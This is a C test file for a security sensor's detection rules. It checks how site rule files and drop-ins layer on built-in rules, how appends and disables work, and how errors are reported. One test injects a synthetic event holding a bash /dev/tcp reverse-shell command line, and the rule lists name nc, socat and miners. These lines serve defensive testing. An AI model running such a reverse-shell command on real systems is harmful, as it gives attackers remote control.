/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Rule files layered on the built-in rules (docs/rules.md, "Adding to the
 * default rules"): the built-in rules, then a rules file, then the drop-ins,
 * each on the ones before. A rule of an earlier one's id replaces it in its
 * place, "rule ID enabled=false" and "disable ID" leave one out,
 * "append=true" adds to a rule, list or macro (and a list appended to later
 * reaches the rules of earlier files), NO_DEFAULTS starts from nothing.
 * Each case checks the exact rule set in force; errors name file, line and
 * column.
 */
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>

#include "../baseline/inject.h"
#include "detect/rules.h"

static char dir[64], rdir[96];

static void setup(void)
{
	snprintf(dir, sizeof(dir), "/tmp/rules-layers-XXXXXX");
	cr_assert_not_null(mkdtemp(dir));
	snprintf(rdir, sizeof(rdir), "%s/rules.d", dir);
	cr_assert_eq(mkdir(rdir, 0700), 0);
}

static void teardown(void)
{
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	cr_assert_eq(run_sh(cmd), 0);
}

TestSuite(rules_layers, .init = setup, .fini = teardown);

/* Write dir/name; returns its path (valid for the next 15 calls). */
static const char *put(const char *name, const char *text)
{
	static char ps[16][256];
	static int k;
	char *p = ps[k++ % 16];
	FILE *f;

	snprintf(p, 256, "%s/%s", dir, name);
	f = fopen(p, "w");
	cr_assert_not_null(f, "%s", p);
	fputs(text, f);
	cr_assert_eq(fclose(f), 0);
	return p;
}

/* The ids in force, in order, blank-separated (static buffer). */
static const char *ids(const struct ruleset *rs)
{
	static char buf[16384];
	size_t n = 0;

	buf[0] = '\0';
	for (unsigned i = 0; i < rs->n; i++)
		n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s%s", i ? " " : "", rs->rules[i].id);
	return buf;
}

/* The built-in ids with `drop` (blank-separated) left out and `add` appended. */
static const char *defaults_but(const char *drop, const char *add)
{
	static char buf[16384];
	struct ruleset *def;
	char err[256], key[80];
	size_t n = 0;

	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &def, err, sizeof(err)), 0);
	for (unsigned i = 0; i < def->n; i++) {
		snprintf(key, sizeof(key), " %s ", def->rules[i].id);
		if (drop && strstr(drop, key))
			continue;
		n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s%s", n ? " " : "", def->rules[i].id);
	}
	if (add)
		snprintf(buf + n, sizeof(buf) - n, " %s", add);
	rules_free(def);
	return buf;
}

static const struct rule *find(const struct ruleset *rs, const char *id)
{
	for (unsigned i = 0; i < rs->n; i++)
		if (strcmp(rs->rules[i].id, id) == 0)
			return &rs->rules[i];
	return NULL;
}

/* The values of condition k of rule id, blank-separated (static buffer). */
static const char *vals(const struct ruleset *rs, const char *id, unsigned k)
{
	static char buf[2048];
	const struct rule *r = find(rs, id);
	size_t n = 0;

	cr_assert_not_null(r, "no rule %s in [%s]", id, ids(rs));
	cr_assert_lt(k, r->nconds, "%s has %u conditions", id, r->nconds);
	buf[0] = '\0';
	for (unsigned i = 0; i < r->conds[k].nvals; i++)
		n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%s%s", i ? " " : "",
				      r->conds[k].svals[i]);
	return buf;
}

static const char site[] =
	"# my site's rules: layered on the built-in ones\n"
	"rule curl-ran severity=low\n"
	"  desc \"curl ran\"\n"
	"  tags T1105\n"
	"  kind = exec\n"
	"  exec.path glob \"*/curl\"\n"
	"end\n"
	"rule miner-exec severity=low     # ours: replaces the built-in one, in its place\n"
	"  desc \"a miner we know about\"\n"
	"  tags T1496\n"
	"  kind = exec\n"
	"  exec.path glob \"*/xmrig\"\n"
	"end\n"
	"rule ptrace enabled=false\n"
	"disable write-etc\n";

Test(rules_layers, a_rules_file_adds_to_the_defaults)
{
	struct ruleset *rs, *def;
	char err[512] = "";
	const char *p = put("site.rules", site);
	unsigned at_def = 0, at_new = 0;

	cr_assert_eq(rules_load(p, NULL, true, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(ids(rs), defaults_but(" ptrace write-etc ", "curl-ran"));
	cr_assert_eq(find(rs, "miner-exec")->severity, SENSOR_SEVERITY_LOW);
	cr_assert_str_eq(find(rs, "miner-exec")->desc, "a miner we know about");
	cr_assert_str_eq(vals(rs, "miner-exec", 1), "*/xmrig");
	/* in its place: the same index among the rules both sets keep */
	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &def, err, sizeof(err)), 0);
	for (unsigned i = 0; i < def->n && strcmp(def->rules[i].id, "miner-exec"); i++)
		at_def += strcmp(def->rules[i].id, "ptrace") && strcmp(def->rules[i].id, "write-etc");
	while (strcmp(rs->rules[at_new].id, "miner-exec"))
		at_new++;
	cr_assert_eq(at_new, at_def);
	rules_free(def);
	rules_free(rs);

	/* the same file without the defaults: its two rules, and nothing to switch off */
	cr_assert_eq(rules_load(p, NULL, false, &rs, err, sizeof(err)), -EBADMSG);
	cr_assert(strstr(err, "site.rules: line 14, column 6: enabled=false: no rule 'ptrace' in "
			      "this or an earlier file"), "%s", err);
	p = put("site.rules", "rule curl-ran severity=low\n desc \"c\"\n kind = exec\n"
			      " exec.path glob \"*/curl\"\nend\nrule miner-exec severity=low\n"
			      " desc \"m\"\n kind = exec\n exec.path glob \"*/xmrig\"\nend\n");
	cr_assert_eq(rules_load(p, NULL, false, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(ids(rs), "curl-ran miner-exec");
	rules_free(rs);
}

/* Through the public API and the real pipeline: what fires with and without the defaults. */
Test(rules_layers, the_public_api_layers_and_no_defaults_replaces)
{
	const char *p = put("site.rules", site);
	struct sensor_baseline_opts o = { .sz = sizeof(o), .rules_path = p };
	struct sensor_rules_opts ro = { .sz = sizeof(ro), .path = p };
	struct ruleset *def;
	char err[256];
	struct tb t;

	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &def, err, sizeof(err)), 0);
	cr_assert_eq(sensor_rules_check(&ro), (int)def->n - 2 + 1, "-ptrace -write-etc +curl-ran");
	rules_free(def);
	tb_open(&t, &o);
	tb_exec(&t, "c", NULL, "/usr/bin/curl", NULL, T0);
	tb_exec(&t, "c", NULL, "/tmp/xmrig", NULL, T0 + 1);
	tb_exec(&t, "c", NULL, "/tmp/minerd", NULL, T0 + 2); /* the built-in miner-exec's, not ours */
	tb_sys(&t, "c", NULL, "ptrace", T0 + 3);
	tb_file(&t, "c", NULL, "write", "/etc/passwd", T0 + 4);
	{
		sensor_event *ev = tb_new(&t, SENSOR_KIND_EXEC, "c", NULL, T0 + 6);
		const char *argv[] = { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" };

		cr_assert_eq(sensor_event_set_str(ev, SENSOR_FIELD_EXEC_PATH, "/bin/bash"), 0);
		cr_assert_eq(sensor_event_set_str(ev, SENSOR_FIELD_PROCESS_CMDLINE,
						  "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), 0);
		cr_assert_eq(sensor_event_set_argv(ev, argv, 3), 0);
		tb_emit(&t, ev);
	}
	cr_expect_eq(tb_count(&t, "curl-ran"), 1);
	cr_expect_eq(tb_count(&t, "miner-exec"), 1, "ours: xmrig only");
	for (int i = 0; i < t.n; i++)
		if (strcmp(t.a[i].rule, "miner-exec") == 0)
			cr_expect_eq(t.a[i].sev, SENSOR_SEVERITY_LOW);
	cr_expect_eq(tb_count(&t, "ptrace"), 0, "enabled=false");
	cr_expect_eq(tb_count(&t, "write-etc"), 0, "disable");
	cr_expect_eq(tb_count(&t, "reverse-shell-devtcp"), 1, "a built-in rule stays");
	tb_close(&t);

	/* NO_DEFAULT_RULES: the file is all the rules */
	p = put("only.rules", "rule curl-ran severity=low\n desc \"c\"\n kind = exec\n"
			      " exec.path glob \"*/curl\"\nend\n");
	o.rules_path = ro.path = p;
	o.flags = SENSOR_BASELINE_NO_DEFAULT_RULES;
	ro.flags = SENSOR_RULES_NO_DEFAULTS;
	cr_assert_eq(sensor_rules_check(&ro), 1);
	tb_open(&t, &o);
	tb_exec(&t, "c", NULL, "/usr/bin/curl", NULL, T0);
	tb_exec(&t, "c", NULL, "/tmp/xmrig", NULL, T0 + 1);
	cr_expect_eq(t.n, 1);
	cr_expect_eq(tb_count(&t, "curl-ran"), 1);
	tb_close(&t);
}

/* A later file's append=true reaches the rules of earlier files (as Falco's does). */
Test(rules_layers, lists_and_macros_take_appends_from_later_files)
{
	static const char base[] =
		"list shells \"*/sh\" \"*/bash\"\n"
		"list tools \"*/nc\"\n"
		"list suspicious @shells @tools\n"
		"macro in_container\n  workload.kind = container\nend\n"
		"rule shell-in-container severity=medium\n"
		"  desc \"a shell in a container\"\n"
		"  kind = exec\n  use in_container\n  exec.path glob @shells\nend\n"
		"rule suspicious-exec severity=high\n"
		"  desc \"d\"\n  kind = exec\n  exec.path glob @suspicious\nend\n";
	struct ruleset *rs;
	char err[512] = "";
	const char *p = put("base.rules", base);
	struct tb t;
	struct sensor_baseline_opts o = { .sz = sizeof(o), .rules_path = p, .rules_dir = rdir,
					  .flags = SENSOR_BASELINE_NO_DEFAULT_RULES };

	put("rules.d/10-zsh.rules", "list shells append=true \"*/zsh\"  # ours too\n");
	put("rules.d/20-web.rules", "macro in_container append=true\n  workload.id prefix web-\nend\n"
				    "list tools append=true \"*/socat\"\n");
	cr_assert_eq(rules_load(p, rdir, false, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(ids(rs), "shell-in-container suspicious-exec");
	/* kind, the macro's two conditions, exec.path */
	cr_assert_eq(find(rs, "shell-in-container")->nconds, 4);
	cr_assert_str_eq(vals(rs, "shell-in-container", 1), "container");
	cr_assert_str_eq(vals(rs, "shell-in-container", 2), "web-");
	cr_assert_str_eq(vals(rs, "shell-in-container", 3), "*/sh */bash */zsh");
	/* a list of lists takes both appends */
	cr_assert_str_eq(vals(rs, "suspicious-exec", 1), "*/sh */bash */zsh */nc */socat");
	cr_assert_eq(rs->nlists, 3);
	rules_free(rs);

	tb_open(&t, &o);
	tb_exec(&t, "web-1", NULL, "/usr/bin/zsh", NULL, T0);
	tb_exec(&t, "db-1", NULL, "/usr/bin/zsh", NULL, T0 + 1);
	tb_exec(&t, "db-1", NULL, "/usr/bin/socat", NULL, T0 + 2);
	cr_expect_eq(tb_count(&t, "shell-in-container"), 1, "web- only, zsh appended");
	cr_expect_eq(tb_count(&t, "suspicious-exec"), 3);
	cr_expect_eq(t.n, 4);
	tb_close(&t);

	/* without the drop-ins: the base file alone */
	cr_assert_eq(rules_load(p, NULL, false, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(vals(rs, "shell-in-container", 2), "*/sh */bash");
	cr_assert_eq(find(rs, "shell-in-container")->nconds, 3);
	rules_free(rs);
}

/* append=true on a rule adds conditions, exceptions and tags; enabled= switches on and off. */
Test(rules_layers, rules_take_appends_and_switches)
{
	struct ruleset *rs;
	char err[512] = "";
	const char *p = put("base.rules", "rule curl-ran severity=low\n desc \"curl ran\"\n"
					  " tags T1105\n kind = exec\n exec.path glob \"*/curl\"\n"
					  "end\nrule wget-ran severity=low\n desc \"w\"\n kind = exec\n"
					  " exec.path glob \"*/wget\"\nend\n");

	put("rules.d/10-ci.rules", "rule curl-ran append=true\n  except workload.id prefix ci-\n"
				   "  tags TA0011\n  process.uid = 0\nend\n"
				   "rule wget-ran enabled=false\n");
	cr_assert_eq(rules_load(p, rdir, false, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(ids(rs), "curl-ran");
	cr_assert_eq(find(rs, "curl-ran")->nconds, 3);
	cr_assert_eq(find(rs, "curl-ran")->nexcepts, 1);
	cr_assert_str_eq(find(rs, "curl-ran")->tags, "T1105 TA0011");
	cr_assert_eq(find(rs, "curl-ran")->ntags, 2);
	cr_assert_eq(find(rs, "curl-ran")->severity, SENSOR_SEVERITY_LOW, "append keeps it");
	cr_assert_str_eq(find(rs, "curl-ran")->desc, "curl ran");
	rules_free(rs);
	/* a later drop-in switches it back on */
	put("rules.d/20-back.rules", "rule wget-ran enabled=true\n");
	cr_assert_eq(rules_load(p, rdir, false, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(ids(rs), "curl-ran wget-ran");
	rules_free(rs);
	/* a rule defined with enabled=false is loaded off */
	put("rules.d/30-new.rules", "rule later severity=info enabled=false\n desc \"l\"\n"
				    " kind = exec\nend\n");
	cr_assert_eq(rules_load(p, rdir, false, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(ids(rs), "curl-ran wget-ran");
	rules_free(rs);
	put("rules.d/40-on.rules", "rule later enabled=true\n");
	cr_assert_eq(rules_load(p, rdir, false, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(ids(rs), "curl-ran wget-ran later");
	rules_free(rs);
}

/* What is wrong names the file, the line and the column. */
Test(rules_layers, errors_name_file_line_and_column)
{
	static const struct {
		const char *text, *err;
	} bad[] = {
		{ "list nosuch append=true x\n",
		  "10-x.rules: line 1, column 13: append=true: no list 'nosuch' in an earlier file" },
		{ "\nmacro nosuch append=true\n kind = exec\nend\n",
		  "10-x.rules: line 2, column 14: append=true: no macro 'nosuch' in an earlier file" },
		{ "rule nosuch append=true\n kind = exec\nend\n",
		  "10-x.rules: line 1, column 13: append=true: no rule 'nosuch' in an earlier file" },
		{ "rule ptrace append=true severity=low\n",
		  "10-x.rules: line 1, column 25: rule 'ptrace': append=true adds to an earlier rule, "
		  "which keeps its severity" },
		{ "rule ptrace enabled=maybe\n",
		  "10-x.rules: line 1, column 13: rule 'ptrace': 'enabled=maybe' is not" },
		{ "\n\n  rule nosuch enabled=false\n",
		  "10-x.rules: line 3, column 8: enabled=false: no rule 'nosuch' in this or an "
		  "earlier file" },
		{ "disable ptrace nosuch\n", "10-x.rules: line 1, column 16: disable: no rule 'nosuch'" },
		{ "list shells append=true\n", "10-x.rules: line 1, column 24: list 'shells' has no value" },
		{ "rule ptrace append=true\n desc \"again\"\nend\n",
		  "10-x.rules: line 2, column 7: 'desc' needs one quoted string, once" },
		{ "rule x severity=high\n desc \"d\"\n kind = exec\n exec.pth = /bin/sh\nend\n",
		  "10-x.rules: line 4, column 2: unknown field 'exec.pth'" },
	};
	const char *p = put("base.rules", "list shells \"*/sh\"\n");

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct ruleset *rs = NULL;
		char err[512] = "";

		put("rules.d/10-x.rules", bad[i].text);
		cr_expect_eq(rules_load(p, rdir, true, &rs, err, sizeof(err)), -EBADMSG, "case %zu", i);
		cr_expect_null(rs);
		cr_expect(strstr(err, bad[i].err) != NULL, "case %zu: '%s' lacks '%s'", i, err,
			  bad[i].err);
	}
	/* the --rules file itself, by its path */
	p = put("base.rules", "rule x severity=high\n  desc \"d\"\n  kind = exec\n  exec.path ~ a\nend\n");
	{
		struct ruleset *rs = NULL;
		char err[512] = "", want[300];

		snprintf(want, sizeof(want), "%s: line 4, column 13: unknown operator '~'", p);
		cr_expect_eq(rules_load(p, NULL, true, &rs, err, sizeof(err)), -EBADMSG);
		cr_expect_str_eq(err, want);
	}
}

/* Appends that feed each other never settle: an error, not a loop. */
Test(rules_layers, appends_that_never_settle)
{
	struct ruleset *rs = NULL;
	char err[512] = "";
	const char *p = put("base.rules", "list a x\n");

	put("rules.d/10-x.rules", "list b @a\nlist a append=true @b\n");
	cr_assert_eq(rules_load(p, rdir, false, &rs, err, sizeof(err)), -EBADMSG);
	cr_assert_null(rs);
	cr_assert(strstr(err, "never settle") != NULL, "%s", err);
	/* one file's append read by a later file settles in passes */
	put("rules.d/10-x.rules", "list a append=true y\n");
	put("rules.d/20-y.rules", "list b @a z\nlist a append=true w\n"
				  "rule r severity=low\n desc \"d\"\n kind = exec\n exec.path = @b\nend\n");
	cr_assert_eq(rules_load(p, rdir, false, &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(vals(rs, "r", 1), "x y w z");
	rules_free(rs);
}
